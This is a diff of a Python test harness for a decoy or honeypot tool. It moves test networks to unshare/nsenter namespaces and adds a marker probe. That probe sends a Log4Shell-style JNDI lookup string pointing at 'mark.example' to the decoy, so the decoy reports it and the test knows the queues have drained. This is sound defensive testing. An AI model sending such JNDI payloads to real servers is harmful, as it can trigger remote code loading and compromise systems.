@@ -44,44 +44,64 @@ def need_root():
     if os.geteuid() != 0:
         print("needs root, for network namespaces")
         sys.exit(SKIP)
-    name = f"ctprobe-{os.getpid()}"
-    if subprocess.run(["ip", "netns", "add", name], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, check=False).returncode:
+    if subprocess.run(["unshare", "--net", "true"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, check=False).returncode:
         print("no network namespaces here")
         sys.exit(SKIP)
-    run("ip", "netns", "del", name)
+
+
+# What is started so ends with this program, however that ends; and a namespace without a name ends with the last process in it.
+WITH_US = ("setpriv", "--pdeathsig", "KILL")
+
+
+class Namespace:
+    """A network of its own, held by one process; with the /sys that belongs to it."""
+
+    def __init__(self):
+        self.holder = subprocess.Popen([*WITH_US, "unshare", "--net", "--mount", "--propagation", "slave", "sh", "-c",
+                                        "mount -t sysfs sysfs /sys && ip link set lo up && echo ready && exec sleep infinity"],
+                                       stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, text=True)
+        self.pid = self.holder.pid
+        if self.holder.stdout.readline() != "ready\n":
+            raise AssertionError("no namespace")
+        self.inside = ("nsenter", f"--net=/proc/{self.pid}/ns/net", f"--mount=/proc/{self.pid}/ns/mnt")
+
+    def close(self):
+        own = os.readlink(f"/proc/{self.pid}/ns/net")
+        for pid in filter(str.isdigit, os.listdir("/proc")):
+            try:
+                if os.readlink(f"/proc/{pid}/ns/net") == own:
+                    os.kill(int(pid), signal.SIGKILL)
+            except OSError:
+                pass  # gone meanwhile
+        self.holder.wait()
+        self.holder.stdout.close()
 
 
 class Network:
     """A host, where the decoy is, and peers on one wire with it: 10.9.0.1 and fd09::1, then .2 and up. `inside` is a container behind the host."""
 
     def __init__(self, peers=1, inside=False):
-        self.tag = f"ct{os.getpid()}-{id(self) & 0xffff:x}"
-        self.names = [f"{self.tag}-h"] + [f"{self.tag}-p{i}" for i in range(peers)] + ([f"{self.tag}-c"] if inside else [])
-        self.host, self.peers = self.names[0], self.names[1:1 + peers]
-        self.inside = self.names[-1] if inside else None
-        for name in self.names:
-            run("ip", "netns", "add", name)
-            run("ip", "-n", name, "link", "set", "lo", "up")
+        self.host, self.peers, self.inside = Namespace(), [Namespace() for _ in range(peers)], Namespace() if inside else None
         h = self.host
-        run("ip", "-n", h, "link", "add", "br0", "type", "bridge", "mcast_snooping", "0")
+        self.on(h, "ip", "link", "add", "br0", "type", "bridge", "mcast_snooping", "0")
         for i, peer in enumerate(self.peers):
-            run("ip", "link", "add", f"v{i}", "netns", h, "type", "veth", "peer", "name", "eth0", "netns", peer)
-            run("ip", "-n", h, "link", "set", f"v{i}", "master", "br0", "up")
-            run("ip", "-n", peer, "addr", "add", f"10.9.0.{i + 2}/24", "dev", "eth0")
-            run("ip", "-n", peer, "addr", "add", f"fd09::{i + 2}/64", "dev", "eth0", "nodad")
-            run("ip", "-n", peer, "link", "set", "eth0", "up")
-        run("ip", "-n", h, "addr", "add", "10.9.0.1/24", "dev", "br0")
-        run("ip", "-n", h, "addr", "add", "fd09::1/64", "dev", "br0", "nodad")
-        run("ip", "-n", h, "link", "set", "br0", "up")
+            self.on(h, "ip", "link", "add", f"v{i}", "type", "veth", "peer", "name", "eth0", "netns", peer.pid)
+            self.on(h, "ip", "link", "set", f"v{i}", "master", "br0", "up")
+            self.on(peer, "ip", "addr", "add", f"10.9.0.{i + 2}/24", "dev", "eth0")
+            self.on(peer, "ip", "addr", "add", f"fd09::{i + 2}/64", "dev", "eth0", "nodad")
+            self.on(peer, "ip", "link", "set", "eth0", "up")
+        self.on(h, "ip", "addr", "add", "10.9.0.1/24", "dev", "br0")
+        self.on(h, "ip", "addr", "add", "fd09::1/64", "dev", "br0", "nodad")
+        self.on(h, "ip", "link", "set", "br0", "up")
         # Where the kernel sends what passes a bridge through the rules of IP as well, diverting would not work on its own address.
         self.on(h, "sh", "-c", "test ! -e /proc/sys/net/bridge || sysctl -qw net.bridge.bridge-nf-call-iptables=0 net.bridge.bridge-nf-call-ip6tables=0")
         if inside:
-            run("ip", "link", "add", "c0", "netns", h, "type", "veth", "peer", "name", "eth0", "netns", self.inside)
-            run("ip", "-n", h, "addr", "add", "10.8.0.1/24", "dev", "c0")
-            run("ip", "-n", h, "link", "set", "c0", "up")
-            run("ip", "-n", self.inside, "addr", "add", "10.8.0.2/24", "dev", "eth0")
-            run("ip", "-n", self.inside, "link", "set", "eth0", "up")
-            run("ip", "-n", self.inside, "route", "add", "default", "via", "10.8.0.1")
+            self.on(h, "ip", "link", "add", "c0", "type", "veth", "peer", "name", "eth0", "netns", self.inside.pid)
+            self.on(h, "ip", "addr", "add", "10.8.0.1/24", "dev", "c0")
+            self.on(h, "ip", "link", "set", "c0", "up")
+            self.on(self.inside, "ip", "addr", "add", "10.8.0.2/24", "dev", "eth0")
+            self.on(self.inside, "ip", "link", "set", "eth0", "up")
+            self.on(self.inside, "ip", "route", "add", "default", "via", "10.8.0.1")
             self.on(h, "sysctl", "-qw", "net.ipv4.ip_forward=1")
         for peer in self.peers:  # both ways of the wire, so that each has the other's link address: a scanner asks once, and gives up
             for address in ("10.9.0.1", "fd09::1"):
@@ -90,18 +110,31 @@ class Network:
 
     @staticmethod
     def on(name, *command, **options):
-        return run("ip", "netns", "exec", name, *command, **options)
+        return run(*name.inside, *command, **options)
 
     @staticmethod
     def start(name, *command, **options):
-        return subprocess.Popen(["ip", "netns", "exec", name, *[str(c) for c in command]], stdin=subprocess.DEVNULL, **options)
+        return subprocess.Popen([*WITH_US, *name.inside, *[str(c) for c in command]], stdin=subprocess.DEVNULL, **options)
 
     def close(self):
-        for name in self.names:
-            pids = run("ip", "netns", "pids", name, check=False).split()
-            for pid in pids:
-                os.kill(int(pid), signal.SIGKILL)
-            subprocess.run(["ip", "netns", "del", name], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, check=False)
+        for name in (self.host, *self.peers, *([self.inside] if self.inside else [])):
+            name.close()
+
+
+# A datagram with a payload, of which is told at once, and a request; from an address of its own.
+MARK = """
+import socket, sys
+source = sys.argv[1]
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+s.bind((source, 0))
+s.sendto(b"${jndi:ldap://mark.example/" + source.encode() + b"}", ("10.9.0.1", 9))
+try:
+    with socket.create_connection(("10.9.0.1", 8080), 5, (source, 0)) as c:
+        c.sendall(b"GET /mark HTTP/1.0\\r\\n\\r\\n")
+        while c.recv(65536): pass
+except OSError as e:
+    print(e)  # nobody answers there
+"""
 
 
 class Decoy:
@@ -109,7 +142,7 @@ class Decoy:
     may_die = False
 
     def __init__(self, network, folder, *options):
-        self.network, self.folder = network, pathlib.Path(folder)
+        self.network, self.folder, self.marks = network, pathlib.Path(folder), []
         self.out, self.err = open(self.folder / "events", "wb"), open(self.folder / "said", "wb")
         self.process = network.start(network.host, CALTROP, "decoy", "--json", "--data-dir", self.folder / "data", "--metrics", self.METRICS, *options,
                                      stdout=self.out, stderr=self.err)
@@ -124,11 +157,12 @@ class Decoy:
         return [e["caltrop"]["state"] for e in self.events() if "state" in e["caltrop"]]
 
     def actors(self, source=None):
-        return [e for e in self.events() if "news" in e["caltrop"] and (source is None or e["source"]["ip"] == source)]
+        return [e for e in self.events() if "news" in e["caltrop"] and (e["source"]["ip"] == source if source else e["source"]["ip"] not in self.marks)]
 
     def contacts(self):
         path = self.folder / "data/decoy/contacts.ndjson"
-        return [json.loads(line) for line in path.read_text().split("\n")[:-1]] if path.exists() else []
+        lines = [json.loads(line) for line in path.read_text().split("\n")[:-1]] if path.exists() else []
+        return [c for c in lines if c["source"]["ip"] not in self.marks]
 
     def alive(self):
         until("the first heartbeat:" + self.said(), lambda: "alive" in self.states() or self.process.poll() is not None)
@@ -141,15 +175,21 @@ class Decoy:
         return {name: int(value) for name, value in re.findall(r"^caltrop_decoy_(\w+) (\d+)$", page, re.M)}
 
     def quiet(self):
-        """Until it has taken in what there was: two looks at its counts, a second of its own apart, are the same."""
-        last = [None]
+        """Until it has taken in what there was: what comes later in the same queues has come to its end."""
+        peer, mark = self.network.peers[0], f"10.9.0.{201 + len(self.marks)}"
+        self.network.on(peer, "ip", "addr", "replace", f"{mark}/24", "dev", "eth0")
+        self.marks.append(mark)
 
-        def same():
-            now = {k: v for k, v in self.counts().items() if k in ("packets_total", "connections_total", "contacts_total", "sessions")}
-            time.sleep(0.3)
-            same_as_before, last[0] = now == last[0], now
-            return same_as_before
-        until("quiet", same)
+        def told():
+            return any(e["source"]["ip"] == mark for e in self.events() if "news" in e["caltrop"])
+
+        def sent():
+            self.network.on(peer, sys.executable, "-c", MARK, mark)
+            end = time.monotonic() + 1
+            while not told() and time.monotonic() < end:
+                time.sleep(0.02)
+            return told()
+        until("the mark of the end", sent)
 
     def stop(self, status=0):
         if self.process.poll() is None:
